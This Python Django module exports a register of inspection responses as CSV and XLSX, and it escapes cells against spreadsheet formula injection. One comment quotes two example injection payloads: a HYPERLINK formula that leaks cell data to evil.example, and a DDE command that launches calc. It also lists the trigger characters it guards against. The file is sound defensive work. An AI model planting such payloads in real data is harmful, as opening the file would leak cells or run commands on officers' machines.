"""The response register as CSV and XLSX, and the formula-safe CSV writer every export uses.

Columns (DESIGN.md, "The surface others rely on"): `inspection, publication_types, force, body, published_on,
deadline, statutory_last_day, status, days_left`, then one column per checklist step (its key; the ISO date the step
was done, empty if not done), in step order, then `published_url`.

- `published_on` is the report's publication date (the date the deadlines count from);
- `force` is the force of the responding body; `body` its full name;
- `status` is the stored status, or `overdue` while open past the statutory last day;
- `days_left` counts to the statutory last day (negative once past it); empty once the response is published.
"""

from __future__ import annotations

import csv
import datetime as dt
from collections.abc import Iterable, Iterator, Sequence
from typing import IO, Any

from django.db.models import Prefetch, QuerySet
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

from responses.models import ChecklistItem, ChecklistStep, Response

REGISTER_COLUMNS = (
    "inspection",
    "publication_types",
    "force",
    "body",
    "published_on",
    "deadline",
    "statutory_last_day",
    "status",
    "days_left",
)
REGISTER_LAST_COLUMN = "published_url"
REGISTER_CHUNK_SIZE = 500
OVERDUE = "overdue"

CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

# Formula injection (CSV injection): a spreadsheet reads a cell starting with one of these as a formula, so a hostile
# inspection title, comment or evidence reference such as `=HYPERLINK("https://evil.example?"&A1,"Click")` or
# `@SUM(1+1)*cmd|' /C calc'!A0` would run, or leak other cells, when an officer opens the export. Tab and carriage
# return count because some spreadsheets skip them and then read the `=` that follows. A leading apostrophe is the
# spreadsheet convention for "this is text" (OWASP's recommendation); the value stays readable and is never evaluated.
# Only text is neutralised: numbers we computed (days_left, a negative number) and dates are written as they are.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: str) -> str:
    return "'" + value if value.startswith(FORMULA_TRIGGERS) else value


def csv_cell(value: Any) -> str | int:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, int):
        return value
    if isinstance(value, dt.date):
        return value.isoformat()
    return neutralise(str(value))


class _Echo:
    """A file-like object that hands back what is written: csv.writer then returns each line (Django's
    "Streaming large CSV files" recipe)."""

    def write(self, value: str) -> str:
        return value


def csv_stream(header: Sequence[str], rows: Iterable[Sequence[Any]], *, batch_chars: int = 64 * 1024) -> Iterator[str]:
    """Yield a formula-safe CSV document in pieces of about `batch_chars`; memory stays flat whatever the row count."""
    writer = csv.writer(_Echo())
    batch: list[str] = [writer.writerow([csv_cell(name) for name in header])]
    size = len(batch[0])
    for row in rows:
        line = writer.writerow([csv_cell(value) for value in row])
        batch.append(line)
        size += len(line)
        if size >= batch_chars:
            yield "".join(batch)
            batch, size = [], 0
    if batch:
        yield "".join(batch)


# --- the register ---------------------------------------------------------------------------------------------------
def register_steps() -> list[ChecklistStep]:
    return list(ChecklistStep.objects.order_by("order", "id"))


def register_header(steps: Sequence[ChecklistStep]) -> list[str]:
    return [*REGISTER_COLUMNS, *(step.key for step in steps), REGISTER_LAST_COLUMN]


def register_queryset(responses: QuerySet[Response]) -> QuerySet[Response]:
    """Everything a register row needs in a fixed number of queries per chunk, however many rows."""
    done_items = ChecklistItem.objects.filter(done_on__isnull=False).only("id", "response_id", "step_id", "done_on")
    return (
        responses.select_related("inspection", "body__force")
        .prefetch_related(
            "inspection__publication_types",
            Prefetch("checklist_items", queryset=done_items.order_by(), to_attr="done_items"),
        )
        .order_by("statutory_last_day", "inspection__title", "body__name", "id")
    )


def register_rows(
    responses: QuerySet[Response], *, today: dt.date, steps: Sequence[ChecklistStep] | None = None
) -> Iterator[list[Any]]:
    """One row per response, typed (dates as dates, days_left as int); the writers format them."""
    steps = register_steps() if steps is None else steps
    for response in register_queryset(responses).iterator(chunk_size=REGISTER_CHUNK_SIZE):
        inspection = response.inspection
        done = {item.step_id: item.done_on for item in response.done_items}  # type: ignore[attr-defined]
        yield [
            inspection.title,
            "; ".join(t.name for t in inspection.publication_types.all()),
            response.body.force.name,
            response.body.name,
            inspection.published_on,
            response.deadline,
            response.statutory_last_day,
            OVERDUE if response.is_overdue(today) else response.status,
            response.days_left(today) if response.is_open else None,
            *(done.get(step.pk) for step in steps),
            response.published_url,
        ]


def register_csv(responses: QuerySet[Response], *, today: dt.date) -> Iterator[str]:
    steps = register_steps()
    return csv_stream(register_header(steps), register_rows(responses, today=today, steps=steps))


def register_xlsx(responses: QuerySet[Response], *, today: dt.date, file: IO[bytes]) -> None:
    """Write the register as an .xlsx workbook to `file`. openpyxl's write-only mode keeps rows on disk, not in
    memory; the workbook can only be zipped once complete, so the caller streams the finished file."""
    steps = register_steps()
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("Register")
    sheet.freeze_panes = "B2"
    sheet.append([_xlsx_cell(sheet, name) for name in register_header(steps)])
    for row in register_rows(responses, today=today, steps=steps):
        sheet.append([_xlsx_cell(sheet, value) for value in row])
    workbook.save(file)


def _xlsx_cell(sheet: WriteOnlyWorksheet, value: Any) -> WriteOnlyCell | Any:
    if value is None or isinstance(value, bool | int):
        return value
    if isinstance(value, dt.date):
        cell = WriteOnlyCell(sheet, value=value)
        cell.number_format = "yyyy-mm-dd"
        return cell
    # Characters XML cannot hold would make openpyxl raise; drop them. Then neutralise as in the CSV, and type the
    # cell as text so that not even a value openpyxl would take for a formula can become one.
    text = neutralise(ILLEGAL_CHARACTERS_RE.sub("", str(value)))
    cell = WriteOnlyCell(sheet, value=text)
    cell.data_type = "s"
    return cell
